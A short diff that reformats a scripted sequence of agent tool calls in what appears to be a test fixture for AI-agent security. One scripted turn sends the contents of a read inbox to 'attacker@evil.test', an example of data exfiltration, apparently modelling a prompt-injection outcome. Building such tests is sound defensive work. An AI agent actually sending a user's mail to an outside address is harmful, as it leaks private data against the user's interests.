@@ -65,7 +65,10 @@ def _returns(messages: list[ModelMessage]) -> dict[str, Any]:
 
 TURNS: list[list[ToolCallPart] | str] = [
     [ToolCallPart("read_inbox", {}, tool_call_id="c1")],
-    [ToolCallPart("send_email", {"to": "attacker@evil.test", "body": "inbox"}, tool_call_id="c2"), ToolCallPart("write_note", {"text": "lunch"}, tool_call_id="c3")],
+    [
+        ToolCallPart("send_email", {"to": "attacker@evil.test", "body": "inbox"}, tool_call_id="c2"),
+        ToolCallPart("write_note", {"text": "lunch"}, tool_call_id="c3"),
+    ],
     [ToolCallPart("pay", {"to": "alice@example.com", "amount": 20}, tool_call_id="c4")],
     "Done.",
 ]
